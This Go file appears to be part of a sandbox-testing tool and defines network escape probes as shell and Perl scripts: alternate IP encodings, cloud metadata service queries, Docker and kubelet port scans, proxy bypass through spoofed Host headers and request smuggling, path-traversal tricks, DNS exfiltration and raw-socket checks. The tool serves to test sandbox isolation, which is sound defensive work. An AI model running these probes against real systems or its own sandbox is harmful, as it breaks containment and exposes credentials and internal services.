package table

import (
	"context"
	"path/filepath"

	"sandboxrun/cmd/sandboxrun/attack"
)

// forms sets FORMS to ways to write the host's addresses, for programs that compare names.
const forms = `
FORMS=
for a in $ADDRS; do
	set -- $(echo $a | tr . ' ')
	FORMS="$FORMS $a $((($1 << 24) + ($2 << 16) + ($3 << 8) + $4)) $(printf '0x%02x%02x%02x%02x' $1 $2 $3 $4) $(printf '0%o.0%o.0%o.0%o' $1 $2 $3 $4) [::ffff:$a]"
done
direct() { curl -s -m 2 --noproxy '*' "$@" >/dev/null 2>&1; }
`

func network() []attack.Attack {
	return []attack.Attack{
		selfTest("N01"),
		attack.Reaching("N02", "reach an address under another name, directly and through the proxy", forms+`
for f in $FORMS; do
	direct "http://$f:$PORT/$ID"
	curl -s -m 3 --noproxy '' -x "${HTTP_PROXY:-http://127.0.0.1:1}" "http://$f:$PORT/$ID" >/dev/null 2>&1
	curl -s -m 3 --noproxy '' -p -x "${HTTP_PROXY:-http://127.0.0.1:1}" "http://$f:$PORT/$ID" >/dev/null 2>&1
done
true`),
		attack.Reaching("N02b", "ask the cloud's metadata service", forms+`
for h in 169.254.169.254 100.100.100.200 '[fd00:ec2::254]' 2852039166 0xa9fea9fe '[::ffff:169.254.169.254]'; do
	direct -m 1 -f http://$h/latest/meta-data/ && echo "GOT $h"
	curl -s -f -m 3 --noproxy '' -x "${HTTP_PROXY:-http://127.0.0.1:1}" http://$h/latest/meta-data/ >/dev/null 2>&1 && echo "GOT $h by the proxy"
done
for h in $ADDRS; do direct "http://$h:$PORT/$ID-latest/meta-data"; done; true`),
		selfTest("N03"),
		attack.Reaching("N04", "reach other containers and the engine", forms+`
for h in 172.17.0.2 172.17.0.3 172.18.0.2; do for p in 80 443 3128 5000 8080; do
	direct -m 1 -f http://$h:$p/ && echo "GOT $h:$p"
done # ports
done # hosts
for h in $ADDRS; do
	for p in 2375 2376 10250; do direct -m 1 http://$h:$p/version && echo "GOT port $p of $h"; done
	direct "http://$h:$PORT/$ID"
done
true`),
		privateByName(),
		attack.Reaching("N07", "bypass the proxy, or reach denied hosts through it", forms+`
P="${HTTP_PROXY:-http://127.0.0.1:1}"
for a in $ADDRS; do
	direct "http://$a:$PORT/$ID-direct"
	(unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; NO_PROXY='*' curl -s -m 3 "http://$a:$PORT/$ID-unset") >/dev/null 2>&1
	curl -s -m 3 --noproxy '' -x "$P" -H "Host: api.anthropic.com" "http://$a:$PORT/$ID-host" >/dev/null 2>&1
	curl -s -m 3 --noproxy '' -x "$P" "http://api.anthropic.com@$a:$PORT/$ID-user" >/dev/null 2>&1
	curl -s -m 3 --noproxy '' -x "$P" -p --connect-to "api.anthropic.com:443:$a:$PORT" "http://api.anthropic.com:443/$ID-connect" >/dev/null 2>&1
	perl -MIO::Socket::INET -e '
		my ($proxy, $to, $id) = @ARGV; $proxy =~ s{^http://}{}; $proxy =~ s{/$}{};
		for my $text ("GET http://$to/$id-raw HTTP/1.1\r\nHost: $to\r\n\r\n", "CONNECT $to HTTP/1.1\r\nHost: x\r\n\r\nGET /$id-tunnel HTTP/1.1\r\nHost: x\r\n\r\n",
			"GET http://a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://$to/$id-smuggled HTTP/1.1\r\nHost: $to\r\n\r\n") {
			my $s = IO::Socket::INET->new(PeerAddr => $proxy, Timeout => 2) or next; print $s $text; local $SIG{ALRM} = sub { die }; eval { alarm 2; my $l = <$s>; alarm 0 }; }
	' "$P" "$a:$PORT" "$ID" 2>/dev/null
	perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0]); $s and $s->send("x") and print "GOT a datagram out\n"' "$a:$PORT" 2>/dev/null
done
for p in $(awk '$4 == "0A" {print $2}' /proc/net/tcp 2>/dev/null | cut -d: -f2 | sort -u); do # whatever listens in the box
	for a in $ADDRS; do
		for t in "//$a:$PORT/$ID-path" "/@$a:$PORT/$ID-at" "/../../$a:$PORT/$ID-up" "/anthropic/..//$a:$PORT/$ID-mixed"; do
			curl -s -m 2 --path-as-is --noproxy '*' "http://127.0.0.1:$((0x$p))$t" >/dev/null 2>&1 &
		done # paths
	done # addresses
done # ports
wait`),
		attack.Scripted("N08", attack.Network, "use the user's agents, displays and buses", `
for v in SSH_AUTH_SOCK SSH_AGENT_PID GPG_AGENT_INFO DISPLAY WAYLAND_DISPLAY DBUS_SESSION_BUS_ADDRESS XDG_RUNTIME_DIR DOCKER_HOST KUBECONFIG; do
	eval "[ -z \"\${$v:-}\" ]" || echo "GOT $v"
done
awk 'NR > 1 && $8 ~ /^@/ {print "GOT abstract socket", $8}' /proc/net/unix
for f in /tmp/.X11-unix /tmp/ssh-* /run/user /run/dbus; do [ ! -e $f ] || echo "GOT $f"; done
true`).NaiveFlags("-e", "SSH_AUTH_SOCK=/run/agent.sock"),
		// From no published list.
		attack.Scripted("N11", attack.Network, "send data out in looked-up names", `
getent hosts "$(hostname)-data.example.com" && echo GOT an answer
perl -MIO::Socket::INET -e 'for (@ARGV) { my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $_, PeerPort => 53); $s and $s->send("x" x 40) and print "GOT a question to $_ out\n" }' $ADDRS 192.0.2.53 2>/dev/null
true`),
		attack.Scripted("N12", attack.Network, "accept connections from outside", `
perl -MIO::Socket::INET -e '
	open(my $f, "<", "/proc/net/route"); my @r = grep { !/^Iface/ } <$f>;
	my $s = IO::Socket::INET->new(Listen => 1, LocalAddr => "0.0.0.0") and @r and print "GOT a port others can reach\n"'`),
		attack.Scripted("N13", attack.Network, "see foreign traffic", `
perl -MSocket -e 'socket(my $s, 17, 3, 0x0300) and print "GOT a packet socket\n"; socket(my $r, 2, 3, 1) and print "GOT a raw socket\n"'`),
	}
}

// privateByName is a task that allows names which resolve to the host itself, and uses them: only the user's own
// configuration may permit that.
func privateByName() attack.Attack {
	a := attack.Reaching("N05", "use an allowed name that resolves to a private address", forms+`
for h in localhost $ADDRS; do direct "http://$h:$PORT/$ID"; done; true`)
	a.Task = func(task map[string]any) {
		task["setup_commands"] = []string{`for h in localhost 127.0.0.1; do
	curl -s -m 3 --noproxy '' -x $HTTP_PROXY http://$h:$(cat n05/port)/N05-setup
	curl -s -m 3 --noproxy '' -p -x $HTTP_PROXY http://$h:$(cat n05/port)/N05-tunnel
done >/dev/null 2>&1; true`}
	}
	a.Host = func(ctx context.Context, h *attack.Host) error {
		h.Flags = append(h.Flags, "--allow-host", "localhost:"+h.Port)
		if err := h.Write(filepath.Join(h.Repo, "n05", "port"), h.Port+"\n", 0o644); err != nil {
			return err
		}
		if _, err := attack.Git(ctx, h.Repo, "add", "n05"); err != nil {
			return err
		}
		_, err := attack.Git(ctx, h.Repo, "commit", "-q", "-m", "a port")
		return err
	}
	return a
}
